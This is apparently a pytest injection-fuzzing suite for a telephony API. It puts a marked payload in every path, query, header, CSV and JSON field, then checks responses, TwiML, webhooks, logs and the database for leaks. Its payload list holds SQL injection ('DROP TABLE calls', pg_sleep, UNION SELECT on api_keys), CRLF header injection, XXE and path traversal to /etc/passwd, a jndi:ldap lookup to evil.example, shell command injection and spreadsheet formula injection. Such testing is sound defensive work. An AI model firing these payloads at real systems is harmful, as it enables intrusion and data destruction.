"""Texts that mean something to whoever reads them carelessly, in every parameter of a path, query or header and in
every field of a body that the document knows, and what they come to where they end: answers, TwiML, webhooks, logs,
the database. Each field gets a few of them, by INJECTION_SEED; all of them with INJECTION_LARGE=1."""

import concurrent.futures
import copy
import itertools
import json
import os
import pathlib
import random
import re
import time
import urllib.parse
import xml.etree.ElementTree

import pytest
from apikit import HEADERS, Stack, number
from receiver import Receiver
from test_crossing import BODIES, Owner
from test_hooks import Leg, words

LARGE = os.environ.get("INJECTION_LARGE") == "1"
SEED = int(os.environ.get("INJECTION_SEED", 21))
FEW = 3
MARK = "zqmarkqz"  # in each of them: where it turns up, a text has gone astray
SLOW = 10  # seconds; what an injected pg_sleep would take

TEXTS = [text + MARK for text in (
    # SQL
    "' OR '1'='1", "'; DROP TABLE calls; --", "\"; SELECT pg_sleep(20); --", "' || pg_sleep(20) || '",
    "1; SELECT pg_sleep(20)",
    "') UNION SELECT key_hash FROM api_keys --", "\\'; SELECT 1; --", "/*", "*/ OR 1=1 /*", "--", "$$", "$1", "::int",
    "E'\\x41'", "%", "_", "\\", "{1,2}", "{NULL}", "{\"a\\\"", "(,)", "1 OR 1=1", "NULL", "infinity", "now",
    "-infinity",
    # lines and headers
    "a\r\nX-Injected: 1\r\n\r\n", "a\nSet-Cookie: x=1", "a\rLocation: https://evil.example/",
    "\u560d\u560aX-Injected: 1",
    "\n2026-01-01T00:00:00.000Z error offhook-api[1] FORGED ", "\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x08\x08\x08",
    "\x9b31m",
    "\u0085FORGED", "\u2028FORGED", "\u2029FORGED",
    # markup
    "</Say><Dial>+12025550100</Dial><Say>", "<Redirect>https://evil.example/</Redirect>", "]]><Hangup/>", "<!--", "-->",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "&lt;&#0;&#x1f;&amp;&nosuch;",
    "<?xml version='1.0'?>", "\"'><",
    "<script>alert(1)</script>", "\" onload=\"x", "javascript:alert(1)", "\ufffe", "\uffff",
    # paths
    "../../../../etc/passwd", "..\\..\\", "/etc/passwd", "%2e%2e%2f", "..%2f", "%00", "....//", "file:///etc/passwd",
    "call_x.mp3/..",
    # formats, shells, templates, formulas
    "%s%s%s%s%n", "%n%n%n", "%1$*2147483647$x", "{}{0}{__class__}", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    "#{7*7}", "<%= 7*7 %>",
    "$(id)", "`id`", "; id", "| id", "&& id", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0",
    # letters
    "\u202egnp.exe", "\u2066\u2069", "\u200b", "\ufeff", "a\u0301" * 200, "\U0010ffff", "\U000e0041", "I\u0307\u0131",
    "\u01c5", "ß",
    "\u0000", "\ud800",
    # sizes, and other types than text
    "A" * 5000, "é" * 100000, "[[[[", "{\"a\":1}", "true", "1e400", "-0", "9223372036854775808", "0x10",
    "+12025550100", "２",
)] + ["", " ", "\t", None, True, 0, -1, 1e300, 2**63 - 1, [], {}, [MARK], {MARK: MARK}, [[[MARK]]]]
ANSWER_HEADERS = {"server", "date", "content-type", "content-length", "connection", "allow", "retry-after",
"content-disposition",
                  "x-request-id", "idempotent-replayed", "etag", "last-modified", "accept-ranges", "www-authenticate",
                  "x-accel-buffering", "transfer-encoding", "vary", "location", *(name.lower() for name in HEADERS)}

# Settings of a workspace that hold texts; the schema of a patch does not name them one by one.
SETTINGS = {"email": {"recipients": ["a@example.com"]}, "calling": {"default_region": "US"},
            "summary": {"schema": {"type": "object", "properties": {"a": {"type": "string", "description": "b"}}}},
            "integrations": {"callrail": {"account_id": "a", "company_id": "b", "api_key": "c"}}}
# What else may stand in a body than what test_crossing says, where texts are nested.
NESTED = {("patch", "/api/v1/config/{scope}/{id}"): SETTINGS,
          ("post", "/api/v1/jobs"): {"external_id": "a", "transcript": [{"seq": 1, "role": "Agent", "text": "Hello."}],
                                     "metadata": {"a": {"b": ["c"]}}},
          ("post", "/calls"): {"target_phone": "+12025550123", "brief": "Hello.", "metadata": {"a": {"b": ["c"]}}}}


# ---- where they go ------------------------------------------------------------------------------

def leaves(value, path=()):
    """The places of all that is neither an object nor an array, and of names."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from leaves(inner, path + (key,))
    elif isinstance(value, list):
        for i, inner in enumerate(value):
            yield from leaves(inner, path + (i,))
    else:
        yield path


def put(body, path, value):
    """The body with this in that place."""
    made = copy.deepcopy(body)
    at = made
    for step in path[:-1]:
        at = at[step]
    at[path[-1]] = value
    return made


def resolved(document, schema):
    return document["components"]["schemas"][schema["$ref"].rpartition("/")[2]] if "$ref" in schema else schema


def places(document):
    """(method, path, kind, name) of each place that a request has: name is that of a parameter, or the place in a body;
    a third member of it is the body that it is a place of."""
    for path, methods in document["paths"].items():
        for method, operation in methods.items():
            for parameter in operation.get("parameters", []):
                yield method, path, parameter["in"], parameter["name"]
            content = operation.get("requestBody", {}).get("content", {})
            if "text/csv" in content:
                yield method, path, "csv", None
            if "application/json" not in content:
                continue
            names = resolved(document, content["application/json"]["schema"]).get("properties", {})
            fields = {(name,) for name in names}
            for body in (BODIES.get((method, path), {}), NESTED.get((method, path), {})):
                for place in sorted(fields | set(leaves(body)), key=str):
                    yield method, path, "body", (place, json.dumps(body))


def as_text(value):
    return value if isinstance(value, str) else json.dumps(value)


def request_of(owner, case):
    """(path, arguments) of a request in which one place holds the text."""
    method, path, kind, name, value = case
    parts = {k: str(v) for k, v in owner.place(path).items()}
    body, query, headers = BODIES.get((method, path)), {}, {}
    data = None
    if kind == "path":
        parts[name] = urllib.parse.quote(as_text(value).encode("utf-8", "surrogatepass"), safe="")
    elif kind == "query":
        query[name] = as_text(value).encode("utf-8", "surrogatepass")
    elif kind == "header":
        headers[name] = as_text(value).encode("utf-8", "surrogatepass")
    elif kind == "csv":
        data = f"to_number,name,note\n+12025550123,{as_text(value)},\"{as_text(value)}\"\n".encode("utf-8",
        "surrogatepass")
        headers["Content-Type"] = "text/csv"
    else:
        place, text = name
        data = json.dumps(put(json.loads(text), place, value))
        headers["Content-Type"] = "application/json"
    full = path.format(**parts)
    if query:
        full += "?" + urllib.parse.urlencode(query)
    return full, {"headers": headers, **({"data": data} if data is not None else {"json": body})}


def sendable(case):
    """What a client cannot put into a header is not sent (the end of the line is the end of the header), nor what nginx
    would refuse by its length alone."""
    _, _, kind, _, value = case
    text = as_text(value)
    return kind in ("body", "csv") or len(text) < 10000 and not (kind == "header" and re.search(r"^\s|[\r\n\0]", text))


def cases(document):
    rng = random.Random(SEED)
    for place in places(document):
        for value in TEXTS if LARGE else rng.sample(TEXTS, FEW):
            if sendable((*place, value)):
                yield *place, value


# ---- the sinks ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def stack():
    """A stack that takes as much as it can."""
    made = Stack({"queue.enabled": "true", "queue.cps": 40, "webhooks.allow_private_networks": "true",
                  "api.requests_per_second": 0})
    try:
        yield made
    finally:
        made.close()


@pytest.fixture(scope="module")
def receiver(stack):
    made = Receiver(f"{stack.folder}/tls")
    yield made
    made.close()


@pytest.fixture(scope="module")
def owner(stack, receiver):
    """A customer with one of everything, who sends all of it."""
    return Owner(stack, receiver, stack.organization(stack.partner()))


@pytest.fixture
def other(stack):
    """A customer for whom nothing waits yet; of the owner it may be thousands of calls."""
    return stack.customer()


def rows_of_others(stack, workspace):
    """How many rows of whom but this customer."""
    tables = stack.sql("SELECT table_name FROM information_schema.columns JOIN information_schema.tables USING"
                       " (table_schema, table_name) WHERE column_name = 'workspace_id' AND table_schema = 'public'"
                       " AND table_type = 'BASE TABLE' ORDER BY 1")
    return {table: stack.sql(f'SELECT workspace_id, count(*), md5(string_agg(t::text, chr(10) ORDER BY t::text))'
                             f' FROM "{table}" t WHERE workspace_id <> %s GROUP BY 1 ORDER BY 1', workspace)
            for table, in tables}


def look_at(case, answer, took):
    """What is wrong with an answer."""
    what = (case[0], case[1], case[2], str(case[3])[:80], as_text(case[4])[:60])
    if answer.status_code >= 500:
        yield *what, answer.status_code, answer.text[:200]
    for name, value in answer.headers.items():
        if name.lower() not in ANSWER_HEADERS or MARK in name + value or "FORGED" in value:
            yield *what, "header", name, value[:100]
    if took > SLOW:
        yield *what, "took", took
    if answer.content and answer.headers["Content-Type"].startswith("application/json"):
        answer.json()
    elif answer.content and case[1] != "/metrics":
        yield *what, "is no JSON", answer.headers["Content-Type"], answer.text[:100]


def log_faults(stack):
    """Lines in the logs that are not what our programs write, one event a line, nothing but text."""
    for path in sorted(pathlib.Path(stack.folder, "log").iterdir()):
        raw = path.read_bytes()
        for line in raw.split(b"\n"):
            if re.search(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8-\xae]|\xe2\x81[\xa6-\xa9]", line):
                yield path.name, "a control character", line[:200]
            if line.startswith(b"2026-01-01T00:00:00.000Z") or line.startswith(b"FORGED"):
                yield path.name, "a forged line", line[:200]
            if path.name in ("api.log", "scheduler.log", "events.log", "voice.log") and line and \
                    not re.match(rb"\d{4}-\d\d-\d\dT[\d:.]+Z (error|warning|info|debug) offhook-", line):
                yield path.name, "no line of ours", line[:200]


def test_every_field_of_every_route(stack, owner):
    print(f"INJECTION_SEED={SEED}")
    assert owner.client.get("/calls/+12025550100").status_code == 404  # not to be found in a log (apikit)
    before, faults, done = rows_of_others(stack, owner.client.workspace), [], itertools.count()

    def send(chunk):
        client = owner.client.twin()
        for case in chunk:
            path, arguments = request_of(owner, case)
            began = time.monotonic()
            try:
                # With a slash in a part of its path it is another route's, or nobody's.
                known = case[2] != "path" or not re.search(r"/|%2f", as_text(case[4]))
                answer = client.request(case[0].upper(), path, known, **arguments)
            except AssertionError as error:  # of apikit: an answer that the document does not know
                faults.append((case[:3], str(case[3])[:80], as_text(case[4])[:60], str(error)[:300]))
                continue
            faults.extend(look_at(case, answer, time.monotonic() - began))
            next(done)

    everything = list(cases(stack.document.json))
    random.Random(SEED).shuffle(everything)
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        list(pool.map(send, (everything[i::6] for i in range(6))))
    print(f"{next(done)} requests")
    assert len(everything) > 1000
    assert faults == []
    assert rows_of_others(stack, owner.client.workspace) == before
    assert stack.offhook("credits", "audit")["balanced"]


def test_what_was_kept_is_given_back(stack, owner):
    """Every list and every thing, as JSON that its schema describes."""
    for path in ("/calls?limit=1000", "/api/v1/jobs?limit=200", "/v1/booking/bookings", "/api/v1/campaigns", "/users/me",
                 "/api/v1/celery/twilio/active-tasks", "/api/providers", "/api/v1/dnc", "/users/me/webhook/deliveries",
                 f"/api/v1/config/workspace/{owner.client.workspace}?effective=true"):
        assert owner.client.get(path).status_code == 200, path
    for call in owner.client.get("/calls?limit=30").json():
        assert owner.client.get(f"/calls/{call['call_id']}/events").status_code == 200
        assert owner.client.get(f"/calls/{call['call_id']}/why").status_code == 200


def shown(text):
    """As XML can hold it and ElementTree gives it back, compared without regard to spaces and what cannot be said."""
    return "".join(re.findall(r"\w", text))


SAID = [text for text in TEXTS if isinstance(text, str) and not {"\0", "\ud800"} & set(text) and len(text) < 200]


def test_what_the_callee_hears_is_text(stack, other):
    """What is in a brief, in TwiML: the document is sound, holds no verb but ours, and the text is in it as text."""
    verbs = {"Response", "Say", "Gather", "Pause", "Hangup", "Redirect"}
    for text in SAID if LARGE else random.Random(SEED).sample(SAID, 5) + ["</Say><Hangup/>&amp;<Say>" + MARK]:
        leg = Leg(stack, other, brief=f"Say this: {text}")
        for turn, heard in ((None, None), (1, text), (2, "Yes. " + text)):
            made = leg.voice(turn, **({} if heard is None else {"SpeechResult": heard, "Confidence": text}))
            assert {one.tag for one in made.iter()} <= verbs, text
            assert "FORGED" not in made.attrib.values()
        said = [event["data"]["text"] for event in leg.events() if event["event_type"] == "transcript"]
        assert any(shown(text) in shown(one) for one in said), (text, said)
        leg.client.cancel(leg.call_id)


def test_fields_of_the_carriers_forms(stack, other):
    """Its signature does not make it a friend: a caller's name and words are in its forms."""
    leg, rng = Leg(stack, other), random.Random(SEED)
    forms = {"voice": ("SpeechResult", "Confidence", "Digits", "CallStatus", "CallSid", "AnsweredBy", "From"),
             "status": ("CallStatus", "CallSid", "CallDuration", "ErrorCode", "SequenceNumber", "Timestamp"),
             "recording": ("RecordingSid", "RecordingUrl", "RecordingStatus", "RecordingDuration", "CallSid"),
             "amd": ("AnsweredBy", "CallSid", "MachineDetectionDuration")}
    texts = [text for text in TEXTS if isinstance(text, str) and "\ud800" not in text]
    for kind, names in forms.items():
        for name in names:
            for text in texts if LARGE else rng.sample(texts, FEW):
                answer = stack.hook(leg.path(kind), {**leg.form("in-progress"), name: text})
                assert answer.status_code < 500, (kind, name, text)
                assert not [h for h in answer.headers if h.lower() not in ANSWER_HEADERS]
                if answer.headers.get("Content-Type", "").startswith("text/xml"):
                    xml.etree.ElementTree.fromstring(answer.content)
    assert set(leg.call()) >= {"status"}


def test_webhooks_tell_it_as_json(other, receiver):
    """Whatever the skill was told: each message is JSON, signed, and the text is whole in it."""
    path = "/injected"
    secret = other.put("/users/me/webhook", {"url": receiver.url(path)}).json()["secret"]
    names = random.Random(SEED).sample([t for t in SAID if len(t) < 80 and not re.search(r"[\x00-\x1f\x7f-\x9f]", t)], 8)
    calls = []
    for text in names:
        answer = other.post("/skills/restaurant-reservation/run", {
            "restaurant_phone": number(), "party_size": 2, "date": "2096-12-24", "time": "19:30", "name": text})
        if answer.status_code in (200, 202):
            calls.append(answer.json()["call_id"])
    assert calls
    for call in calls:
        other.ended(call, 60)

    def told():
        return {m.event["call_id"] for m in receiver.at(path)} >= set(calls)
    deadline = time.monotonic() + 30
    while not told() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert told()
    assert all(m.signed_by(secret) for m in receiver.at(path))


def test_no_log_has_a_line_that_we_did_not_write(stack, owner):
    """The last of this file: all that was sent has been logged, paths among it."""
    assert MARK in pathlib.Path(stack.folder, "log", "offhook.access.log").read_text()
    assert list(log_faults(stack))[:20] == []
    kept = {path.name for path in pathlib.Path(stack.folder, "data", "recordings").glob("**/*")}
    assert [one for one in kept if not re.fullmatch(r"call_[0-9a-z]{26}\.mp3(\.part\.\d+)?", one)] == []
